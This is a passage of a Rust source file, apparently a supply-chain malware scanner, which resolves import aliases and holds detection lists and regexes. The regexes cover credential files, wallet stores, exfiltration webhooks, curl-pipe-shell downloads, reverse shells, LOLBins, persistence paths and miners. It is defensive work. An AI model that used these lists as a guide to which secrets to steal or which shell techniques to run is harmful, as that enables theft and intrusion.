//! The code rules: what a source file calls (names resolved through its imports and
//! aliases, so `const cp = require('child_process'); cp.exec(…)` is
//! `child_process.exec`), which strings it holds, and what the two say together.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use regex::Regex;

use crate::Finding;
use crate::archive::Contents;
use crate::lex::{self, Kind, Lang, Token};
use crate::manifest::{Ecosystem, Manifest};

/// A dotted name used in the source (`child_process.exec`, `os.environ`), after
/// aliases, with the tokens it spans and, for a call, its arguments.
#[derive(Debug, Clone)]
struct Chain {
    name: String,
    first: usize,
    /// The first part was replaced through an import or alias (`cp` → `child_process`).
    aliased: bool,
    /// Token range of the call's arguments (inside the parentheses).
    args: Option<(usize, usize)>,
    /// Which of the pattern lists the name is in (`K_NETWORK`, …), decided once.
    kinds: u8,
}

const K_NETWORK: u8 = 1;
const K_EXEC: u8 = 2;
const K_EVAL: u8 = 4;
const K_WRITE: u8 = 8;
const K_SERIALIZE: u8 = 16;

/// The first parts of every pattern's names (`child_process`, `eval`, …): a name whose
/// first part is not one of them is in no list (most names of a file are not).
static HEADS: LazyLock<HashSet<&'static str>> = LazyLock::new(|| {
    [NETWORK, EXEC, EVAL, WRITE, SERIALIZE]
        .iter()
        .flat_map(|list| list.iter())
        .filter(|p| !p.starts_with('*'))
        .map(|p| p.trim_end_matches('*').split('.').next().unwrap_or(p))
        .collect()
});

/// The pattern lists a name is in.
fn kinds_of(name: &str) -> u8 {
    let head = name.split('.').next().unwrap_or(name);
    let suffix = name.ends_with(".write_bytes") || name.ends_with(".write_text");
    if !suffix && !HEADS.contains(head) {
        return 0;
    }
    let mut k = 0;
    for (bit, list) in [
        (K_NETWORK, NETWORK),
        (K_EXEC, EXEC),
        (K_EVAL, EVAL),
        (K_WRITE, WRITE),
        (K_SERIALIZE, SERIALIZE),
    ] {
        if any_of(name, list) {
            k |= bit;
        }
    }
    k
}

/// What one file does, as the rules read it.
struct Facts<'a> {
    path: &'a str,
    lang: Lang,
    text: &'a str,
    tokens: Vec<Token>,
    chains: Vec<Chain>,
    /// Variables assigned from decoded or decompressed data.
    tainted: HashMap<String, Vec<usize>>,
    /// Functions of the file that decode (`function e(r){return Buffer.from(r,"hex")}`).
    decoders: HashSet<String>,
    /// Members of key-handling libraries the file assigns to (monkey-patches).
    patched: Vec<(usize, String)>,
    /// For each opening bracket, the index of its closing one (`u32::MAX`: none), found
    /// once for the file so that every lookup is constant time.
    matching: Vec<u32>,
    /// Arrays of string literals (`var _0x1=['https','child_process']`), for resolving
    /// `require(_0x1[1])`.
    arrays: HashMap<String, Vec<String>>,
}

/// `name` matches a pattern: exactly, by prefix (`requests.*`) or by last part
/// (`*.write_bytes`).
fn any_of(name: &str, patterns: &[&str]) -> bool {
    patterns.iter().any(|p| {
        if let Some(suffix) = p.strip_prefix('*') {
            name.ends_with(suffix)
        } else if let Some(prefix) = p.strip_suffix('*') {
            name.starts_with(prefix)
        } else {
            name == *p
        }
    })
}

const NETWORK: &[&str] = &[
    // JavaScript
    "http.request",
    "http.get",
    "https.request",
    "https.get",
    "http2.connect",
    "net.connect",
    "net.createConnection",
    "net.Socket",
    "tls.connect",
    "dgram.createSocket",
    "dns.lookup",
    "dns.resolve*",
    "dns.promises.*",
    "fetch",
    "window.fetch",
    "axios",
    "axios.get",
    "axios.post",
    "axios.put",
    "axios.request",
    "axios.create",
    "XMLHttpRequest",
    "WebSocket",
    "node-fetch",
    "node-fetch.default",
    "request",
    "request.get",
    "request.post",
    "got",
    "got.get",
    "got.post",
    "got.stream",
    "needle",
    "needle.get",
    "needle.post",
    "needle.request",
    "superagent",
    "superagent.get",
    "superagent.post",
    "undici.*",
    "navigator.sendBeacon",
    // Python
    "urllib.request.*",
    "urllib2.*",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "requests.*",
    "httpx.*",
    "socket.socket",
    "socket.create_connection",
    "http.client.*",
    "httplib.*",
    "aiohttp.*",
    "urllib3.*",
    "smtplib.*",
    "ftplib.*",
    "dns.resolver.*",
    "pycurl.*",
    "websocket.*",
    "telebot.*",
    "discord_webhook.*",
    // Ruby
    "Net.HTTP*",
    "URI.open",
    "TCPSocket*",
    "UDPSocket*",
    "Socket.tcp",
    "RestClient.*",
    "HTTParty.*",
    "Faraday.*",
    "Excon.*",
    "open-uri*",
    // Rust
    "std.net.TcpStream*",
    "TcpStream.*",
    "std.net.UdpSocket*",
    "UdpSocket.*",
    "reqwest.*",
    "ureq.*",
    "hyper.*",
    "curl.*",
    "attohttpc.*",
    "isahc.*",
    "minreq.*",
];

const EXEC: &[&str] = &[
    "child_process.exec*",
    "child_process.spawn*",
    "child_process.fork",
    "child_process.execFile*",
    "shelljs.exec",
    "execa",
    "execa.command",
    "execa.sync",
    "execa.commandSync",
    "cross-spawn",
    "cross-spawn.sync",
    "os.system",
    "os.popen*",
    "os.exec*",
    "os.spawn*",
    "os.posix_spawn*",
    "subprocess.*",
    "pty.spawn",
    "commands.getoutput",
    "commands.getstatusoutput",
    "os.startfile",
    "system",
    "exec",
    "spawn",
    "IO.popen",
    "Open3.*",
    "Kernel.system",
    "Kernel.exec",
    "Kernel.spawn",
    "Process.spawn",
    "PTY.spawn",
    "std.process.Command.new",
    "Command.new",
    "process.Command.new",
];

const EVAL: &[&str] = &[
    "eval",
    "window.eval",
    "global.eval",
    "globalThis.eval",
    "Function",
    "vm.runInThisContext",
    "vm.runInNewContext",
    "vm.runInContext",
    "vm.Script",
    "vm.compileFunction",
    "exec",
    "builtins.exec",
    "builtins.eval",
    "compile",
    "__builtins__.exec",
    "instance_eval",
    "class_eval",
    "module_eval",
    "Kernel.eval",
    "binding.eval",
];

/// Libraries that hold private keys and seed phrases (Python modules, npm packages).
const WALLET_LIBRARIES: &[&str] = &[
    "eth_account",
    "web3",
    "solana",
    "solders",
    "bip39",
    "mnemonic",
    "ethers",
    "@solana/web3.js",
    "bitcoinlib",
    "tronpy",
    "tronweb",
    "hdwallet",
    "eth_keys",
    "bitcoinjs-lib",
    "bip32",
    "ed25519-hd-key",
    "tweetnacl",
    "coincurve",
    "secp256k1",
    "ecdsa",
];

/// npm packages whose names are also common identifiers (`request`, `got`, `needle`).
const JS_LIBRARIES: &[&str] = &[
    "axios",
    "node-fetch",
    "request",
    "got",
    "needle",
    "superagent",
    "undici",
    "execa",
    "cross-spawn",
    "shelljs",
];

/// Which names of [`EVAL`] evaluate code in which language (`compile` is Python's
/// builtin, any function in JavaScript; `exec` is Python's and Ruby's eval).
fn eval_for(lang: Lang, name: &str) -> bool {
    match lang {
        Lang::Js => matches!(
            name,
            "eval"
                | "window.eval"
                | "global.eval"
                | "globalThis.eval"
                | "Function"
                | "vm.runInThisContext"
                | "vm.runInNewContext"
                | "vm.runInContext"
                | "vm.Script"
                | "vm.compileFunction"
        ),
        Lang::Python => matches!(
            name,
            "eval" | "exec" | "compile" | "builtins.exec" | "builtins.eval" | "__builtins__.exec"
        ),
        Lang::Ruby => matches!(
            name,
            "eval"
                | "instance_eval"
                | "class_eval"
                | "module_eval"
                | "Kernel.eval"
                | "binding.eval"
        ),
        Lang::Rust | Lang::Shell => false,
    }
}

const WRITE: &[&str] = &[
    "fs.writeFile*",
    "fs.appendFile*",
    "fs.createWriteStream",
    "fs.promises.writeFile",
    "fs.chmod*",
    "open",
    "io.open",
    "os.chmod",
    "shutil.copy*",
    "urllib.request.urlretrieve",
    "File.write",
    "File.open",
    "File.chmod",
    "FileUtils.*",
    "IO.write",
    "std.fs.write",
    "fs.write",
    "std.fs.File.create",
    "File.create",
    "*.write_bytes",
    "*.write_text",
    "urlretrieve",
];

/// Identifiers that decode, decompress or assemble data.
const DECODE: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "b85decode",
    "a85decode",
    "decodebytes",
    "decodestring",
    "urlsafe_b64decode",
    "fromhex",
    "unhexlify",
    "a2b_base64",
    "a2b_hex",
    "decompress",
    "fromCharCode",
    "atob",
    "decrypt",
    "decode64",
    "strict_decode64",
    "urlsafe_decode64",
    "unpack1",
    "inflate",
    "inflateSync",
    "gunzipSync",
    "inflateRawSync",
    "brotliDecompressSync",
    "createDecipheriv",
    "createDecipher",
    "unescape",
];

const SERIALIZE: &[&str] = &[
    "JSON.stringify",
    "Object.keys",
    "Object.entries",
    "Object.values",
    "querystring.stringify",
    "btoa",
    "Buffer.from",
    "encodeURIComponent",
    "util.inspect",
    "String",
    "json.dumps",
    "str",
    "repr",
    "base64.b64encode",
    "urllib.parse.urlencode",
    "pickle.dumps",
];

const SECRET_ENV: &[&str] = &[
    "AWS_SECRET_ACCESS_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SESSION_TOKEN",
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "GITLAB_TOKEN",
    "CI_JOB_TOKEN",
    "PYPI_TOKEN",
    "TWINE_PASSWORD",
    "CARGO_REGISTRY_TOKEN",
    "DISCORD_TOKEN",
    "SLACK_TOKEN",
    "OPENAI_API_KEY",
    "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "DOCKER_PASSWORD",
    "HEROKU_API_KEY",
    "CIRCLE_TOKEN",
    "TRAVIS_TOKEN",
    "VERCEL_TOKEN",
    "NETLIFY_AUTH_TOKEN",
    "ANTHROPIC_API_KEY",
];

/// Credential stores, each with the category it belongs to: a stealer reads several
/// kinds, a tool reads its own (npm's config reads `.npmrc`, the AWS SDK `.aws/credentials`).
static CREDENTIALS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        ("npm", r"(^|[/\\~])\.npmrc(?-u:\b)"),
        ("pypi", r"(^|[/\\~])\.pypirc(?-u:\b)"),
        ("git", r"(^|[/\\~])\.git-credentials(?-u:\b)"),
        ("gnupg", r"(^|[/\\~])\.gnupg(?-u:\b)"),
        ("aws", r"\.aws[/\\]credentials"),
        ("ssh", r"\.ssh[/\\]|(?-u:\b)id_(rsa|dsa|ecdsa|ed25519)$"),
        ("docker", r"\.docker[/\\]config\.json"),
        ("kube", r"\.kube[/\\]config"),
        ("gcloud", r"\.config[/\\]gcloud"),
        ("browser", r"\bLogin Data\b|\bLocal State\b|Local Storage[/\\]leveldb|\bWeb Data\b|\bCookies$"),
        ("wallet", r"(?i)(?-u:\b)wallet\.dat(?-u:\b)|exodus\.wallet|electrum[/\\]wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|solana[/\\]id\.json|\.bitcoin[/\\]|(?-u:\b)keystore[/\\]|atomic[/\\]Local Storage"),
        ("discord", r"(?i)discord[/\\]?(Local Storage|leveldb)|discordcanary|discordptb"),
        ("telegram", r"Telegram Desktop[/\\]tdata|(?-u:\b)tdata$"),
        ("system", r"/etc/shadow(?-u:\b)|(?-u:\b)keychain-db(?-u:\b)|login\.keychain"),
    ]
    .into_iter()
    .map(|(category, pattern)| (category, Regex::new(pattern).expect("valid regex")))
    .collect()
});

static ENDPOINT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)/api/webhooks/\d{5,}/|",
        r"/bot\d{6,}:[A-Za-z0-9_-]{20,}|(?-u:\b)webhook\.site(?-u:\b)|\.pipedream\.net|requestbin|(?-u:\b)hookb\.in(?-u:\b)|",
        r"\.ngrok(-free)?\.(io|app|dev)|(?-u:\b)oast(ify)?\.(com|fun|live|me|online|pro|site)|",
        r"(?-u:\b)interact\.sh(?-u:\b)|burpcollaborator\.net|canarytokens\.(com|org)|(?-u:\b)transfer\.sh(?-u:\b)|",
        r"pastebin\.com/raw|paste\.ee/r/|(?-u:\b)hastebin\.com|(?-u:\b)0x0\.st(?-u:\b)|\.trycloudflare\.com|(?-u:\b)serveo\.net(?-u:\b)"
    ))
    .expect("valid regex")
});

static IP_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?-u:\b)(https?|ftp|tcp|wss?)://(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?-u:\b)",
    )
    .expect("valid regex")
});

static DOWNLOAD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(?-u:\b)(curl|wget)(?-u:\b)[^|;&\n]*\|\s*(sudo\s+)?(ba|z|da)?sh(?-u:\b)|",
        r"(?-u:\b)(curl|wget)(?-u:\b)[^\n]*(&&|;)\s*(chmod\s+\+?[0-7x]+|\./|(ba)?sh\s|nohup\s)|",
        r"(?-u:\b)(iwr|irm|invoke-webrequest|invoke-restmethod)(?-u:\b)[^\n|]*\|\s*(iex|invoke-expression)(?-u:\b)|",
        r"(?-u:\b)(iex|invoke-expression)\s*\(+\s*(new-object\s+net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod)|",
        r"\.downloadstring\s*\([^\n]*(?-u:\b)(iex|invoke-expression)(?-u:\b)|(?-u:\b)(iex|invoke-expression)(?-u:\b)[^\n]*\.downloadstring\s*\("
    ))
    .expect("valid regex")
});

static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)/dev/(tcp|udp)/[^\s/]+/\d+|(?-u:\b)nc(at)?(?-u:\b)[^\n]*\s-e\s*\S*(sh|cmd)|",
        r"(?-u:\b)mkfifo(?-u:\b)[^\n]*(?-u:\b)nc(?-u:\b)|(?-u:\b)socat(?-u:\b)[^\n]*(?-u:\b)exec:|(?-u:\b)sh\s+-i\s*[<>]&|",
        r"new-object\s+system\.net\.sockets\.tcpclient"
    ))
    .expect("valid regex")
});

static LOLBIN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(?-u:\b)(rundll32|regsvr32|mshta)(\.exe)?(?-u:\b)|(?-u:\b)certutil(\.exe)?(?-u:\b)[^\n]*-(urlcache|decode)|",
        r"(?-u:\b)bitsadmin(\.exe)?(?-u:\b)[^\n]*/transfer|",
        r"(?-u:\b)powershell(\.exe)?(?-u:\b)[^\n]*\s-(e|ec|en|enc|encodedcommand|w\s+hidden|windowstyle\s+hidden|nop\s+-w\s+hidden)(?-u:\b)|",
        r"(?-u:\b)add-mppreference(?-u:\b)[^\n]*-exclusion|(?-u:\b)[wc]script(\.exe)?(?-u:\b)[^\n]*\.(vbs|js|jse|vbe)(?-u:\b)"
    ))
    .expect("valid regex")
});

static PERSISTENCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(^|[/\\~])\.(bashrc|bash_profile|zshrc|zprofile|profile|bash_login)$|",
        r"(^|[/\\~])\.(bashrc|bash_profile|zshrc|zprofile|bash_login)(?-u:\b)|",
        r"(?-u:\b)crontab(?-u:\b)|/etc/cron|/var/spool/cron|Start Menu[/\\]Programs[/\\]Startup|",
        r"CurrentVersion[/\\]Run(Once)?(?-u:\b)|Library[/\\]Launch(Agents|Daemons)|\.config[/\\]autostart|",
        r"/etc/systemd/system|\.config[/\\]systemd[/\\]user|(?-u:\b)schtasks(?-u:\b)|/etc/rc\.local|/etc/init\.d/"
    ))
    .expect("valid regex")
});

/// Patterns that find secrets by their format (as a stealer searches a disk for them).
static SECRET_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"0x\[a-fA-F0-9\]\{64\}|\[1-9A-HJ-NP-Za-km-z\]\{(32|43|44|64|87|88)|ghp_\[|gh[opsu]_\[A-Za-z0-9|",
        r"AKIA\[0-9A-Z\]|npm_\[A-Za-z0-9|xox\[baprs\]|sk-\[A-Za-z0-9|BEGIN \(?(RSA|OPENSSH|EC|DSA)|",
        r"\(\?:\\d\{1,3\}\\s\*,\\s\*\)\{31|mnemonic|seed phrase"
    ))
    .expect("valid regex")
});

static MINER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?-u:\b)xmrig(?-u:\b)|stratum\+(tcp|ssl|tls)://|(?-u:\b)cpuminer(?-u:\b)|(?-u:\b)minerd(?-u:\b)|--donate-level|(?-u:\b)moneroocean(?-u:\b)|(?-u:\b)supportxmr(?-u:\b)|(?-u:\b)c3pool(?-u:\b)|(?-u:\b)nanopool\.org|(?-u:\b)minexmr(?-u:\b)|(?-u:\b)nicehash(?-u:\b)|(?-u:\b)ethminer(?-u:\b)|(?-u:\b)phoenixminer(?-u:\b)|(?-u:\b)lolminer(?-u:\b)|(?-u:\b)t-rex(?-u:\b).*(?-u:\b)miner")
        .expect("valid regex")
});

/// A cryptocurrency address (base58 ones must hold digits: identifiers such as
/// `MLDictionaryConstraint` fit the alphabet too).
fn is_address(s: &str) -> bool {
    if !ADDRESS.is_match(s) {
        return false;
    }
    s.starts_with("0x") || s.starts_with("bc1") || s.bytes().filter(u8::is_ascii_digit).count() >= 3
}

static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:[13][a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[a-z0-9]{25,62}|0x[a-fA-F0-9]{40}|T[1-9A-HJ-NP-Za-km-z]{33}|[LM][a-km-zA-HJ-NP-Z1-9]{26,33})$")
        .expect("valid regex")
});

/// An address pattern written as a regular expression (clipboard hijackers match
/// what the victim copied against one).
static ADDRESS_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\[13\]\[a-km-zA-HJ-NP-Z1-9\]|0x\[a-fA-F0-9\]\{40\}|\(bc1\||bc1\[|\^T\[|\[LM3\]|\[13\]",
    )
    .expect("valid regex")
});

const CLIPBOARD: &[&str] = &[
    "pyperclip",
    "clipboardy",
    "clipboard",
    "win32clipboard",
    "pbcopy",
    "pbpaste",
    "xclip",
    "xsel",
    "Clipboard",
    "clipboard_get",
    "clipboard_append",
    "GetClipboardData",
    "SetClipboardData",
    "readText",
    "writeText",
    "clipboard-copy",
    "copy-paste",
];

impl<'a> Facts<'a> {
    fn new(path: &'a str, lang: Lang, text: &'a str) -> Facts<'a> {
        let tokens = lex::tokenize(text, lang);
        let mut facts = Facts {
            path,
            lang,
            text,
            tokens,
            chains: Vec::new(),
            tainted: HashMap::new(),
            decoders: HashSet::new(),
            arrays: HashMap::new(),
            matching: Vec::new(),
            patched: Vec::new(),
        };
        facts.matching = matching(&facts.tokens);
        facts.literals();
        facts.resolve();
        facts
    }

    fn tok(&self, i: usize) -> Option<&Token> {
        self.tokens.get(i)
    }

    fn punct_at(&self, i: usize, c: u8) -> bool {
        self.tok(i).is_some_and(|t| t.is_punct(c))
    }

    /// The index of the `)` matching the `(` at `open`, within a bound.
    fn close_paren(&self, open: usize) -> usize {
        match self.matching.get(open) {
            Some(&close) if close != u32::MAX => close as usize,
            // Unclosed (a truncated or hostile file) or not a bracket: a few tokens, so
            // that a file of unclosed calls costs no more than a file of closed ones.
            _ => (open + 64).min(self.tokens.len()),
        }
    }

    /// Whether the token names something that decodes.
    fn decodes(&self, k: usize) -> bool {
        let Some(t) = self.tok(k) else { return false };
        match t.kind {
            Kind::Ident => {
                DECODE.contains(&t.text.as_str())
                    || self.decoders.contains(&t.text)
                    // marshal.loads / pickle.loads (not json.loads)
                    || (t.text == "loads"
                        && self.punct_at(k.wrapping_sub(1), b'.')
                        && self.tok(k.wrapping_sub(2)).is_some_and(|m| matches!(m.text.as_str(), "marshal" | "pickle" | "dill" | "cPickle")))
                    // `Buffer.from(x, "base64")`
                    || (t.text == "from"
                        && self.punct_at(k + 1, b'(')
                        && self.tokens[k + 1..self.close_paren(k + 1)]
                            .iter()
                            .any(|a| a.kind == Kind::Str && matches!(a.text.as_str(), "base64" | "hex")))
            }
            _ => false,
        }
    }

    /// Literal string arrays and the file's own decoding functions.
    fn literals(&mut self) {
        let n = self.tokens.len();
        for i in 0..n {
            let t = &self.tokens[i];
            if t.kind != Kind::Ident {
                continue;
            }
            // NAME = [ "a", "b", … ]
            if self.punct_at(i + 1, b'=') && self.punct_at(i + 2, b'[') {
                let mut items = Vec::new();
                let mut k = i + 3;
                while let Some(tok) = self.tok(k) {
                    if tok.kind == Kind::Str {
                        items.push(tok.text.clone());
                    } else if !tok.is_punct(b',') {
                        break;
                    }
                    k += 1;
                }
                if self.punct_at(k, b']') && !items.is_empty() {
                    self.arrays.insert(t.text.clone(), items);
                }
            }
            // function NAME(…) { … } / def NAME(…): … / NAME = function / NAME = (…) =>
            let named = if (t.text == "function" || t.text == "def")
                && self.tok(i + 1).is_some_and(|x| x.kind == Kind::Ident)
            {
                Some((self.tokens[i + 1].text.clone(), i + 2))
            } else if self.punct_at(i + 1, b'=')
                && !self.punct_at(i + 2, b'=')
                && self.tokens[i + 2..(i + 16).min(n)]
                    .iter()
                    .any(|x| x.is_ident("function") || x.is_punct(b'>'))
            {
                Some((t.text.clone(), i + 2))
            } else {
                None
            };
            if let Some((name, from)) = named {
                // The body: braces in JavaScript and Ruby blocks, else up to the next
                // definition (Python), at most 40 tokens.
                let end = (from + 40).min(n);
                let brace = (from..(from + 20).min(n)).find(|&k| self.tokens[k].is_punct(b'{'));
                let (start, stop, small) = match brace {
                    Some(open) if self.lang == Lang::Js => {
                        let close = self.close_paren(open);
                        (open, close.min(n), close - open <= 60)
                    }
                    _ => {
                        let stop = self.tokens[from..end]
                            .iter()
                            .position(|x| {
                                x.is_ident("function") || x.is_ident("def") || x.is_ident("class")
                            })
                            .map_or(end, |p| from + p);
                        (from, stop, true)
                    }
                };
                // A small helper that turns base64 or hex (or char codes) into text.
                if small
                    && (start..stop).any(|k| {
                        let x = &self.tokens[k];
                        x.kind == Kind::Ident
                            && (matches!(
                                x.text.as_str(),
                                "atob"
                                    | "b64decode"
                                    | "unhexlify"
                                    | "fromhex"
                                    | "decode64"
                                    | "strict_decode64"
                                    | "fromCharCode"
                            ) || (x.text == "from" && self.decodes(k)))
                    })
                {
                    self.decoders.insert(name);
                }
            }
        }
    }

    /// Builds the chains, collecting aliases and tainted variables on the way.
    fn resolve(&mut self) {
        let mut aliases: HashMap<String, String> = HashMap::new();
        let n = self.tokens.len();
        let mut i = 0;
        while i < n {
            let t = &self.tokens[i];
            if t.kind != Kind::Ident {
                i += 1;
                continue;
            }
            let after_dot = i > 0
                && (self.punct_at(i - 1, b'.')
                    || (self.punct_at(i - 1, b':') && i > 1 && self.punct_at(i - 2, b':')));
            if after_dot {
                i += 1;
                continue;
            }
            if let Some(next) = self.imports(i, &mut aliases) {
                i = next.max(i + 1);
                continue;
            }
            let (name, j) = self.chain_at(i, &aliases);
            let line = t.line;
            let mut args = None;
            if self.punct_at(j, b'(') {
                let close = self.close_paren(j);
                args = Some((j + 1, close));
            } else if matches!(self.lang, Lang::Ruby | Lang::Python)
                && self.tok(j).is_some_and(Token::is_string)
                && self.tok(j).is_some_and(|s| s.line == line)
            {
                args = Some((j, j + 1));
            }
            // `wallet_lib.Account.from_key = …`: a function of a key-handling library
            // replaced.
            if args.is_none()
                && self.punct_at(j, b'=')
                && !self.punct_at(j + 1, b'=')
                && name.contains('.')
                && WALLET_LIBRARIES.contains(&name.split('.').next().unwrap_or_default())
            {
                self.patched.push((i, name.clone()));
            }
            // `x = <chain>` makes `x` an alias of a reference (not of a call's result).
            if args.is_none()
                && i >= 2
                && self.punct_at(i - 1, b'=')
                && !self.punct_at(i.wrapping_sub(2), b'=')
            {
                self.alias_targets(i - 2, &name, &mut aliases);
            }
            // `x = decode(…)` taints `x`.
            if i >= 2 && self.punct_at(i - 1, b'=') && self.tokens[i - 2].kind == Kind::Ident {
                let end = self.statement_end(i);
                if (i..end).any(|k| self.decodes(k)) {
                    self.tainted
                        .entry(self.tokens[i - 2].text.clone())
                        .or_default()
                        .push(i);
                }
            }
            let renamed = aliases.contains_key(&t.text)
                || !(name == t.text
                    || (name.starts_with(t.text.as_str())
                        && name[t.text.len()..].starts_with('.')));
            let kinds = kinds_of(&name);
            self.chains.push(Chain {
                name,
                aliased: renamed,
                first: i,
                args,
                kinds,
            });
            i += 1;
        }
    }

    /// The dotted name starting at `i` and the index after it. `require("m")`,
    /// `__import__("m")` and `importlib.import_module("m")` stand for the module `m`.
    fn chain_at(&self, i: usize, aliases: &HashMap<String, String>) -> (String, usize) {
        let mut parts: Vec<String> = vec![self.tokens[i].text.clone()];
        let mut j = i + 1;
        loop {
            let head = parts.join(".");
            let loads = matches!(
                head.as_str(),
                "require" | "__import__" | "importlib.import_module"
            );
            if loads
                && self.punct_at(j, b'(')
                && self.tok(j + 1).is_some_and(|t| t.kind == Kind::Str)
                && self.punct_at(j + 2, b')')
            {
                parts = vec![self.tokens[j + 1].text.clone()];
                j += 3;
                continue;
            }
            // require(NAMES[2]) with NAMES a literal array.
            if loads
                && self.punct_at(j, b'(')
                && self.punct_at(j + 2, b'[')
                && self.punct_at(j + 4, b']')
                && self.punct_at(j + 5, b')')
                && let Some(items) = self.tok(j + 1).and_then(|t| self.arrays.get(&t.text))
                && let Some(item) = self
                    .tok(j + 3)
                    .and_then(|t| t.text.parse::<usize>().ok())
                    .and_then(|n| items.get(n))
            {
                parts = vec![item.clone()];
                j += 6;
                continue;
            }
            if self.punct_at(j, b'.') && self.tok(j + 1).is_some_and(|t| t.kind == Kind::Ident) {
                parts.push(self.tokens[j + 1].text.clone());
                j += 2;
            } else if matches!(self.lang, Lang::Rust | Lang::Ruby)
                && self.punct_at(j, b':')
                && self.punct_at(j + 1, b':')
                && self.tok(j + 2).is_some_and(|t| t.kind == Kind::Ident)
            {
                parts.push(self.tokens[j + 2].text.clone());
                j += 3;
            } else if self.lang == Lang::Js
                && self.punct_at(j, b'[')
                && self.tok(j + 1).is_some_and(|t| t.kind == Kind::Str)
                && self.punct_at(j + 2, b']')
            {
                parts.push(self.tokens[j + 1].text.clone());
                j += 3;
            } else {
                break;
            }
        }
        if let Some(target) = aliases.get(&parts[0]) {
            parts[0].clone_from(target);
        }
        (parts.join("."), j)
    }

    /// `x =` or `{a, b: c} =` before a chain: the names it binds.
    fn alias_targets(&self, k: usize, name: &str, aliases: &mut HashMap<String, String>) {
        let t = &self.tokens[k];
        if t.kind == Kind::Ident {
            if k == 0 || !self.punct_at(k - 1, b'.') {
                aliases.insert(t.text.clone(), name.to_owned());
            }
            return;
        }
        if !t.is_punct(b'}') {
            return;
        }
        // Destructuring: walk back to the `{`.
        let mut m = k;
        let mut names = Vec::new();
        while m > 0 && !self.punct_at(m, b'{') && k - m < 64 {
            m -= 1;
            let tok = &self.tokens[m];
            if tok.kind == Kind::Ident {
                names.push(m);
            }
        }
        for idx in names {
            let local = &self.tokens[idx].text;
            // `a: b` binds `b` to `name.a`.
            if self.punct_at(idx + 1, b':') {
                continue;
            }
            let key = if idx >= 2 && self.punct_at(idx - 1, b':') {
                &self.tokens[idx - 2].text
            } else {
                local
            };
            aliases.insert(local.clone(), format!("{name}.{key}"));
        }
    }

    /// Python and JavaScript `import` forms and Rust `use`: binds aliases, returns
    /// the index after the statement when `i` started one.
    fn imports(&self, i: usize, aliases: &mut HashMap<String, String>) -> Option<usize> {
        let t = &self.tokens[i];
        match (self.lang, t.text.as_str()) {
            (Lang::Python, "import") => {
                // import a.b as c, d
                let mut j = i + 1;
                let line = t.line;
                while let Some(tok) = self.tok(j) {
                    if tok.line != line || tok.kind != Kind::Ident {
                        break;
                    }
                    let (module, next) = self.dotted(j);
                    let mut local = module.split('.').next().unwrap_or_default().to_owned();
                    let mut bound = local.clone();
                    j = next;
                    if self.tok(j).is_some_and(|t| t.is_ident("as")) {
                        if let Some(alias) = self.tok(j + 1) {
                            local.clone_from(&alias.text);
                            bound.clone_from(&module);
                        }
                        j += 2;
                    }
                    aliases.insert(local, bound);
                    if !self.punct_at(j, b',') {
                        break;
                    }
                    j += 1;
                }
                Some(j)
            }
            (Lang::Python, "from") => {
                let (module, mut j) = self.dotted(i + 1);
                if !self.tok(j).is_some_and(|t| t.is_ident("import")) {
                    return None;
                }
                j += 1;
                let paren = self.punct_at(j, b'(');
                if paren {
                    j += 1;
                }
                let line = self.tok(j).map_or(0, |t| t.line);
                while let Some(tok) = self.tok(j) {
                    if tok.kind != Kind::Ident || (!paren && tok.line != line) {
                        break;
                    }
                    let name = tok.text.clone();
                    let mut local = name.clone();
                    j += 1;
                    if self.tok(j).is_some_and(|t| t.is_ident("as")) {
                        if let Some(alias) = self.tok(j + 1) {
                            local.clone_from(&alias.text);
                        }
                        j += 2;
                    }
                    aliases.insert(local, format!("{module}.{name}"));
                    if !self.punct_at(j, b',') {
                        break;
                    }
                    j += 1;
                }
                Some(j)
            }
            (Lang::Js, "import") => {
                // import x from "m"; import * as x from "m"; import {a as b} from "m"
                let mut j = i + 1;
                let mut bindings: Vec<(String, Option<String>)> = Vec::new();
                while let Some(tok) = self.tok(j) {
                    if tok.is_ident("from") || tok.kind == Kind::Str || j - i > 64 {
                        break;
                    }
                    if tok.kind == Kind::Ident && !tok.is_ident("as") && !tok.is_ident("type") {
                        if self
                            .tok(j.wrapping_sub(1))
                            .is_some_and(|p| p.is_ident("as"))
                        {
                            let original = if self.punct_at(j - 2, b'*') {
                                None
                            } else {
                                self.tok(j - 2).map(|t| t.text.clone())
                            };
                            bindings.retain(|(l, _)| Some(l) != original.as_ref());
                            bindings.push((tok.text.clone(), original));
                        } else {
                            let braced = self.tokens[i..j]
                                .iter()
                                .filter(|t| t.is_punct(b'{'))
                                .count()
                                > self.tokens[i..j]
                                    .iter()
                                    .filter(|t| t.is_punct(b'}'))
                                    .count();
                            bindings.push((tok.text.clone(), braced.then(|| tok.text.clone())));
                        }
                    }
                    j += 1;
                }
                let module = match self.tok(j) {
                    Some(t) if t.is_ident("from") => self
                        .tok(j + 1)
                        .filter(|t| t.kind == Kind::Str)
                        .map(|t| t.text.clone()),
                    _ => None,
                };
                let module = module?;
                for (local, member) in bindings {
                    let target = member.map_or_else(|| module.clone(), |m| format!("{module}.{m}"));
                    aliases.insert(local, target);
                }
